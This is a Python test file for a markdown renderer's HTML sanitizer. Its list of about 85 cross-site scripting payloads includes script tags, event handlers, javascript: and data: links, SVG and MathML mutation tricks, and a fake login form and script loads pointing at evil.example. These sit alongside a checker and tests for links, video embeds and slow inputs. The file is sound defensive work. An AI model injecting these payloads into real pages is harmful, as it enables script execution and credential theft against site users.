from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roomserver.catalog.markdown import MAX_MARKDOWN_CHARACTERS, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src='x' ONLOAD='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe src='https://www.youtube-nocookie.com.evil.example/embed/aaaaaaaaaaa'></iframe>",
    "<svg><iframe><img src=x onerror=alert(1)></iframe></svg>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://x.example' onmouseover=alert(1) id=login name=login class=btn>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](https://x.example/a.png)',
    '![x" onload="alert(1)](https://x.example/a.mp4)',
    '![x"><script>alert(1)</script>](https://youtu.be/aaaaaaaaaaa)',
    '![x](https://x.example/a.mp4"onerror="alert(1))',
    "![x](https://www.youtube.com/watch?v=aaaaaaaaaaa%22onload=alert(1))",
    "![x](https://youtube.com.evil.example/watch?v=aaaaaaaaaaa)",
    "![x](javascript://youtube.com/%0aalert(1)?v=aaaaaaaaaaa)",
    "![x](javascript:alert(1)//a.mp4)",
    "<a href='https://www.youtube-nocookie.com/embed/aaaaaaaaaaa'>\" onload=alert(1) x=\"</a>",
    "<a href='https://www.youtube-nocookie.com/embed/aaaaaaaaaaa'>&quot; onload=alert(1)&gt;&lt;script&gt;</a>",
    "<a title='<a href=\"https://www.youtube-nocookie.com/embed/aaaaaaaaaaa\">x</a>'>x</a>",
    "<video src='javascript:alert(1)'></video>",
    "<video src=x onerror=alert(1) autoplay loop></video>",
    "<video><source src='javascript:alert(1)' onerror=alert(1)></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x onslotchange=alert(1)>",
    "<x-widget onclick=alert(1) is=x-widget>x</x-widget>",
    "<p/onclick=alert(1)>x",
    "<<script>alert(1)//<</script>",
    "\x00<script\x00>alert(1)</script>",
    "<a href=//evil.example/%0ajavascript:alert(1)>x</a>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x",
    "<bdo dir=rtl onfocus=alert(1) tabindex=1>x</bdo>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "</p></div></body></html><script>alert(1)</script>",
]

_ATTRIBUTES = (
    "href src title alt width height start type colspan rowspan scope rel target loading referrerpolicy controls "
    "preload playsinline sandbox allow"
)
_FORBIDDEN_TAGS = (
    "script style svg math object embed base meta link form input button textarea select template noscript xmp "
    "plaintext audio body html head frame frameset applet marquee slot"
)
_PLAYER = re.compile(r"https://(www\.youtube-nocookie\.com/embed/[\w-]{11}|player\.vimeo\.com/video/\d+)")


class _Inspector(HTMLParser):
    """Reads what a browser would, and names everything that has no business on the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS.split() or "-" in tag:
            self.found.append(f"<{tag}>")
        if tag == "iframe" and not _PLAYER.fullmatch(dict(attrs).get("src") or ""):
            self.found.append(f"frame {attrs}")
        for name, value in attrs:
            if name not in _ATTRIBUTES.split():
                self.found.append(f"{tag} {name}")
            if name in {"href", "src"}:
                scheme = re.match(r"[\s\x00-\x20]*([a-z][a-z0-9+.\-\s]*):", value or "", re.IGNORECASE)
                if scheme and scheme[1].lower() not in {"http", "https", "mailto"}:
                    self.found.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


def dangers(page: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(page)
    inspector.close()
    return inspector.found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_survives(attack: str) -> None:
    for text in (attack, f"Hello *you* {attack} and more", f"> {attack}", f"- {attack}\n\n| a |\n|---|\n| {attack} |"):
        assert dangers(render_markdown(text)) == []


@given(st.lists(st.sampled_from(ATTACKS) | st.text(max_size=12), max_size=6).map("".join))
def test_nothing_dangerous_survives_in_combination(text: str) -> None:
    assert dangers(render_markdown(text)) == []


@given(st.lists(st.sampled_from("<>\"'=/!-&;#()[]`*_~|\\ \n\ta:") | st.sampled_from(["script", "on"]), max_size=60))
def test_punctuation_breaks_nothing_open(parts: list[str]) -> None:
    assert dangers(render_markdown("".join(parts))) == []


def test_links_open_beside_the_page_and_give_nothing_away() -> None:
    page = render_markdown("See [the paper](https://x.example/p.pdf 'PDF').")
    assert '<a href="https://x.example/p.pdf" title="PDF"' in page
    assert 'target="_blank"' in page
    assert 'rel="noopener noreferrer nofollow"' in page


def test_images_keep_their_alternate_text() -> None:
    page = render_markdown("![A map](https://x.example/map.png)")
    assert re.search(r'<img src="https://x.example/map.png" alt="A map"[^>]*>', page)


@pytest.mark.parametrize(
    ("address", "player"),
    [
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=3", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://m.youtube.com/watch?v=dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://youtu.be/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://www.youtube.com/live/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://www.youtube.com/embed/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
    ],
)
def test_a_video_page_written_as_an_image_becomes_its_player(address: str, player: str) -> None:
    page = render_markdown(f'![The "talk"]({address})')
    assert f'<iframe src="{player}" title="The &quot;talk&quot;"' in page
    assert "sandbox=" in page


def test_a_video_file_written_as_an_image_becomes_a_player() -> None:
    page = render_markdown("![Demo](https://x.example/demo.mp4?v=2)")
    assert re.search(r'<video src="https://x.example/demo.mp4\?v=2" title="Demo"[^>]*controls=""', page)
    assert "autoplay" not in page


def test_a_playlist_or_channel_stays_a_picture_address_without_a_player() -> None:
    assert "iframe" not in render_markdown("![x](https://www.youtube.com/playlist?list=PLaaaaaaaaaaa)")


def test_the_usual_markdown_works() -> None:
    page = render_markdown("# Head\n\n*em* **strong** ~~gone~~ `code`\n\n1. a\n2. b\n\n| x |\n|---|\n| y |\n")
    for piece in (
        "<h1>Head</h1>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<s>gone</s>",
        "<code>code</code>",
        "<ol>",
        "<td>y</td>",
    ):
        assert piece in page


def test_harmless_html_is_kept() -> None:
    page = render_markdown("<details><summary>More</summary>\n\nText\n\n</details>")
    assert "<details>" in page
    assert "<summary>More</summary>" in page


def test_a_longer_text_is_refused_with_its_length() -> None:
    with pytest.raises(ValueError, match="text has 20,001 characters, at most 20,000 are allowed"):
        render_markdown("x" * (MAX_MARKDOWN_CHARACTERS + 1))


@pytest.mark.parametrize(
    "piece", ["[", "![", "*", "_a", "`", "<", "<a", "> ", "- ", "|", "~~", "[a](", "\\", "&", "<!--"]
)
def test_no_text_takes_long(piece: str) -> None:
    begin = time.perf_counter()
    render_markdown((piece * MAX_MARKDOWN_CHARACTERS)[:MAX_MARKDOWN_CHARACTERS])
    assert time.perf_counter() - begin < 10
